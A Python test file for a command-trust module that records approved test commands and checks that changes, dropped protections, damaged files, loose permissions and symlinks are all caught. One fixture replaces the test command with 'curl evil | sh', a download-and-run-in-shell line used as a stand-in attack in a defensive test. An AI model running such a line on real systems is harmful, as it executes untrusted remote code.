"""Trust: exactly what was read may run, nothing else."""

from __future__ import annotations

import stat
from dataclasses import replace
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from veriloop_tui.contract.protect import DEFAULT_PROTECTED
from veriloop_tui.contract.trust import changes, describe, has_trusted_before, is_trusted, trust
from veriloop_tui.core.obligation import BudgetLimits, Contract, Obligation

TESTS = Obligation("tests", ("python3", "-m", "pytest", "--junitxml={report}"), "junit")
CONTRACT = Contract((TESTS,), DEFAULT_PROTECTED, BudgetLimits())
CHANGED = replace(CONTRACT, obligations=(replace(TESTS, run="curl evil | sh"),))


def test_nothing_is_trusted_at_first(tmp_path: Path) -> None:
    file = tmp_path / "trust.json"
    assert not is_trusted(file, CONTRACT)
    assert not has_trusted_before(file)
    assert all(line.startswith("+ ") for line in changes(file, CONTRACT))


def test_what_was_trusted_is_trusted_until_it_changes(tmp_path: Path) -> None:
    file = tmp_path / "data" / "trust.json"
    trust(file, CONTRACT)
    assert is_trusted(file, CONTRACT)
    assert not is_trusted(file, CHANGED)
    assert has_trusted_before(file)


def test_only_the_user_can_read_the_file(tmp_path: Path) -> None:
    file = tmp_path / "data" / "trust.json"
    trust(file, CONTRACT)
    trust(file, CHANGED)
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert list(file.parent.iterdir()) == [file]
    assert is_trusted(file, CONTRACT)
    assert is_trusted(file, CHANGED)


def test_a_change_shows_the_old_command_and_the_new_one(tmp_path: Path) -> None:
    file = tmp_path / "trust.json"
    trust(file, CONTRACT)
    shown = changes(file, CHANGED)
    assert "- tests runs: python3 -m pytest '--junitxml={report}'" in shown
    assert "+ tests runs in the shell: curl evil | sh" in shown
    assert not [line for line in changes(file, CONTRACT) if not line.startswith("  ")]


def test_a_dropped_protection_is_shown(tmp_path: Path) -> None:
    file = tmp_path / "trust.json"
    trust(file, replace(CONTRACT, protected=(*DEFAULT_PROTECTED, "secrets/")))
    assert "- also protected: secrets/" in changes(file, CONTRACT)


def test_a_damaged_or_foreign_file_trusts_nothing(tmp_path: Path) -> None:
    file = tmp_path / "trust.json"
    for content in (b"", b"\xff", b"[]", b'{"hashes": 3}', b"[" * 100_000):
        file.write_bytes(content)
        assert not is_trusted(file, CONTRACT)
    trust(file, CONTRACT)
    assert is_trusted(file, CONTRACT)
    file.chmod(0o666)
    assert not is_trusted(file, CONTRACT)
    file.chmod(0o600)
    link = tmp_path / "link.json"
    link.symlink_to(file)
    assert not is_trusted(link, CONTRACT)


@given(st.text(min_size=1, max_size=40))
def test_no_command_can_hide_part_of_itself(line: str) -> None:
    obligation = replace(TESTS, run=line)
    (shown, *_) = describe(replace(CONTRACT, obligations=(obligation,)))
    assert shown.isprintable()
    if line.isprintable():
        assert shown.endswith(line)
